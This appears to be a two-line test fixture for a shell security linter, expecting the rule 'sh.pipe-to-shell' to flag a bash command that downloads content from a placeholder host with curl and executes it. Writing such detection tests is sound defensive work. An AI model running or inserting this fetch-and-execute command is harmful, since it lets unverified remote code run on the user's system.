# expect: sh.pipe-to-shell
bash <<< "$(curl -s http://example.com/x)"
